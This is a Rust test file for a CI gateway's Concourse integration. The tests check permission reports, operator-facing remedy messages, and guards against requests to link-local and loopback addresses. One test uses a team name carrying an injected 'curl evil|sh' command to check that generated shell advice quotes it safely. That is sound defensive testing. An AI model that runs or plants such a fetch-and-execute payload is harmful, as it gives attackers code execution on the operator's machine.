//! What a person is told of a Concourse that will not do.

use gatehouse_domain::ci::{
    Account, CheckReport, CiErrorKind, CiProvider, ConcourseTarget, Outlook, ScopeCheck, Target,
};
use gatehouse_outbound::OutboundHttp;
use gatehouse_providers::{Dependencies, concourse::ConcourseProvider};
use gatehouse_testkit::concourse::{ConcourseTwin, Fault, Role, Route, Script, Version};
use serde_json::json;

use crate::support::{Bench, PASSWORD, USER, concourse, deploy, trigger};

async fn check(bench: &Bench) -> CheckReport {
    bench.provider().check(&[deploy().into()]).await.unwrap()
}

fn able(team: &ScopeCheck) -> [bool; 4] {
    [team.list, team.trigger, team.watch, team.cancel]
}

fn in_team(team: &str) -> Target {
    let (pipeline, job) = ("p".into(), "j".into());
    Target::Concourse(ConcourseTarget { team: team.into(), pipeline, job, vars: serde_json::Map::new() })
}

fn app_deploy() -> ConcourseTarget {
    let Target::Concourse(target) = deploy() else { panic!("it is one of Concourse") };
    target
}

fn neutral(bench: &Bench, text: &str) -> String {
    text.replace(bench.twin.url(), "https://ci.example.com")
}

#[tokio::test]
async fn every_version_reports_that_all_is_well() {
    for version in Version::ALL {
        let bench = Bench::new(concourse(Script::quick()).version(version)).await;
        let report = check(&bench).await;
        assert_eq!(report.version.as_deref(), Some(version.as_str()));
        assert_eq!(report.identity.as_deref(), Some("local:ci-gateway"));
        assert_eq!(report.problems, Vec::<String>::new());
        let [team] = &report.scopes[..] else { panic!("{report:?}") };
        assert_eq!((team.roles.join(","), able(team)), ("pipeline-operator".to_owned(), [true; 4]));
        assert_eq!(team.remedy, None);
        assert_eq!(report.outlooks, [Outlook::Begins]);
    }
}

#[tokio::test]
async fn a_viewer_is_told_which_role_is_missing_and_how_to_get_it() {
    let builder = ConcourseTwin::builder()
        .user(USER, PASSWORD)
        .team("main", |team| team.role(USER, Role::Viewer))
        .pipeline("main", "app", |pipeline| pipeline.job("deploy", |job| job));
    let bench = Bench::new(builder).await;
    let report = check(&bench).await;
    assert_eq!(able(&report.scopes[0]), [true, false, true, false]);
    insta::assert_snapshot!(neutral(&bench, report.scopes[0].remedy.as_deref().unwrap()), @r#"give `local:ci-gateway` the role `pipeline-operator` in team `main`: add `- {name: pipeline-operator, local: {users: ["ci-gateway"]}}` under `roles:` in the file that `CONCOURSE_MAIN_TEAM_CONFIG` of the web nodes names, and restart them. A web node that starts sets the roles of `main` anew from its own settings, so what `fly set-team` gives there does not last"#);

    let error = trigger(&bench.provider(), deploy()).await.unwrap_err();
    assert_eq!(error.kind, CiErrorKind::Forbidden);
    insta::assert_snapshot!(neutral(&bench, &error.advice), @r#"our account may not do this with job `deploy` in pipeline `app` of team `main`: give `local:ci-gateway` the role `pipeline-operator` in team `main`: add `- {name: pipeline-operator, local: {users: ["ci-gateway"]}}` under `roles:` in the file that `CONCOURSE_MAIN_TEAM_CONFIG` of the web nodes names, and restart them. A web node that starts sets the roles of `main` anew from its own settings, so what `fly set-team` gives there does not last"#);
}

#[tokio::test]
async fn an_admin_may_do_everything_in_teams_that_do_not_name_them() {
    let builder = concourse(Script::quick()).team("main", |team| team.role(USER, Role::Owner));
    let bench = Bench::new(builder.team("ops", |team| team.role("somebody", Role::Owner))).await;
    let report = bench.provider().check(&[in_team("ops").into()]).await.unwrap();
    assert_eq!((able(&report.scopes[0]), report.scopes[0].roles.join(",")), ([true; 4], "admin".to_owned()));
}

#[tokio::test]
async fn a_token_that_names_nobody_is_recognised_everywhere() {
    let bench = Bench::new(concourse(Script::quick()).grants_only_openid()).await;
    let report = check(&bench).await;
    assert_eq!((report.identity, able(&report.scopes[0])), (None, [false; 4]));
    let [problem] = &report.problems[..] else { panic!("{:?}", report.problems) };
    insta::assert_snapshot!(problem, @"Concourse logs us in, but with a token that does not say who we are (no connector, no team): every list is empty and every change is refused. Gatehouse asks for the scopes `openid profile email federated:id groups`; something between it and Concourse lets only `openid` through. Let `federated:id` pass, and check the provider again");

    let provider = bench.provider();
    let errors = [
        provider.checkpoint(&deploy()).await.unwrap_err(),
        trigger(&provider, deploy()).await.unwrap_err(),
        provider.discover(&std::collections::BTreeSet::new()).await.unwrap_err(),
    ];
    for error in errors {
        assert_eq!((error.kind, &error.advice), (CiErrorKind::CredentialsRefused, problem));
    }
}

#[tokio::test]
async fn a_wrong_password_is_a_problem_of_the_report() {
    let account = Account::Password { username: USER.into() };
    let bench = Bench::with_account(concourse(Script::quick()), account, "wrong").await;
    let report = check(&bench).await;
    assert_eq!(report.version.as_deref(), Some("7.14.3"));
    assert_eq!(able(&report.scopes[0]), [false; 4]);
    let [problem] = &report.problems[..] else { panic!("{:?}", report.problems) };
    assert!(problem.starts_with("Concourse refuses the password of user `ci-gateway`"), "{problem}");
}

/// The advice to make the team would replace the roles of the one that is there.
#[tokio::test]
async fn a_team_that_is_spelled_otherwise_is_named_as_concourse_spells_it() {
    for role in [Role::PipelineOperator, Role::Owner] {
        let builder = concourse(Script::quick()).team("main", |team| team.role(USER, role));
        let bench = Bench::new(builder).await;
        let report = bench.provider().check(&[in_team("MAIN").into()]).await.unwrap();
        assert_eq!(able(&report.scopes[0]), [false; 4]);
        let expected = "Concourse spells team `MAIN` as `main`, and roles go by that name: correct the jobs";
        assert_eq!(report.scopes[0].remedy.as_deref(), Some(expected));
        if role == Role::PipelineOperator {
            let shouted = Target::Concourse(ConcourseTarget { team: "MAIN".into(), ..app_deploy() });
            let error = trigger(&bench.provider(), shouted).await.unwrap_err();
            assert_eq!(error.kind, CiErrorKind::Forbidden);
            assert!(error.advice.ends_with(expected), "{}", error.advice);
        }
    }
}

#[tokio::test]
async fn a_team_that_does_not_exist_is_told_from_one_that_is_closed() {
    let bench =
        Bench::new(concourse(Script::quick()).team("closed", |team| team.role("x", Role::Owner))).await;
    let targets = ["closed", "nope"].map(in_team).map(Into::into);
    let report = bench.provider().check(&targets).await.unwrap();
    let [closed, nope] = &report.scopes[..] else { panic!("{report:?}") };
    assert_eq!(report.outlooks.len(), 2);
    insta::assert_snapshot!(neutral(&bench, closed.remedy.as_deref().unwrap()), @r#"look in `fly -t TARGET teams` whether team `closed` is spelled so: roles go by the exact name, so if not, correct the jobs and leave the team as it is. If it is, give `local:ci-gateway` the role `pipeline-operator` in team `closed`: as an owner of the team, write its present roles (`fly -t TARGET get-team -n closed`) and `- {name: pipeline-operator, local: {users: ["ci-gateway"]}}` under `roles:` in team.yml, then `fly -t TARGET set-team -n closed --config team.yml`; or PUT https://ci.example.com/api/v1/teams/closed with {"auth":{"pipeline-operator":{"groups":[],"users":["local:ci-gateway"]},"…":"the present roles"}}. Both replace the team's roles"#);
    insta::assert_snapshot!(nope.remedy.as_deref().unwrap(), @"Concourse has no team `nope`; correct the jobs that name it, or make it: `fly -t TARGET set-team -n nope --config team.yml`");
}

/// Whoever may write jobs names teams, and an owner pastes the command.
#[tokio::test]
async fn a_shell_takes_the_name_of_a_team_that_does_not_exist_as_one_argument() {
    let bench = Bench::new(concourse(Script::quick())).await;
    let report = bench.provider().check(&[in_team("x; curl evil|sh #").into()]).await.unwrap();
    let remedy = report.scopes[0].remedy.as_deref().unwrap();
    assert!(
        remedy.ends_with("`fly -t TARGET set-team -n 'x; curl evil|sh #' --config team.yml`"),
        "{remedy}"
    );
}

#[tokio::test]
async fn a_concourse_that_cannot_be_reached_or_is_none_is_a_problem_of_the_report() {
    let bench = Bench::new(concourse(Script::quick())).await;
    bench.twin.go_down();
    let report = check(&bench).await;
    assert_eq!((report.version, report.problems.len()), (None, 1));

    let bench = Bench::new(concourse(Script::quick())).await;
    bench.twin.fault(Fault::on(Route::Info).html_page(200).always());
    let report = check(&bench).await;
    insta::assert_snapshot!(neutral(&bench, &report.problems[0]), @"a web page came from https://ci.example.com instead of an answer of Concourse's API: what stands before Concourse wants people to sign in there and must let calls with Concourse's tokens pass, or the provider's URL is not Concourse's own");
}

#[tokio::test]
async fn a_version_that_is_too_old_is_said_to_be() {
    let bench = Bench::new(concourse(Script::quick())).await;
    bench.twin.fault(Fault::on(Route::Info).json(200, &json!({"version": "6.4.1"})));
    insta::assert_snapshot!(check(&bench).await.problems[0], @"this is Concourse 6.4.1; Gatehouse works with 6.5 and later, whose tokens are of another kind. Update Concourse");
}

#[tokio::test]
async fn settings_that_cannot_work_say_so_in_every_call() {
    let mut bench = Bench::new(concourse(Script::quick())).await;
    bench.settings.ca_certificate = Some("no PEM".into());
    insta::assert_snapshot!(check(&bench).await.problems[0], @"the provider cannot be used: the CA certificate holds no certificate; register it again");
    bench.settings.ca_certificate = None;
    bench.settings.url = Some("http://169.254.169.254/latest".into());
    insta::assert_snapshot!(check(&bench).await.problems[0], @"Concourse at http://169.254.169.254/latest cannot be called: calls to 169.254.169.254 are not made: it is a link-local address");
    bench.settings.url = None;
    insta::assert_snapshot!(check(&bench).await.problems[0], @"the provider cannot be used: its URL is not valid; register it again");
}

#[tokio::test]
async fn a_name_that_leads_to_this_host_is_refused_when_it_is_resolved() {
    let mut bench = Bench::new(concourse(Script::quick())).await;
    bench.settings.url = Some(bench.twin.url().replace("127.0.0.1", "localhost"));
    bench.give_password();
    assert_eq!(check(&bench).await.problems, Vec::<String>::new());
    let provider = ConcourseProvider::new(
        &bench.settings,
        Dependencies { http: OutboundHttp::new(), ..bench.dependencies() },
    );
    let problem = &provider.check(&[deploy().into()]).await.unwrap().problems[0];
    assert!(problem.ends_with("it is a loopback address"), "{problem}");
}
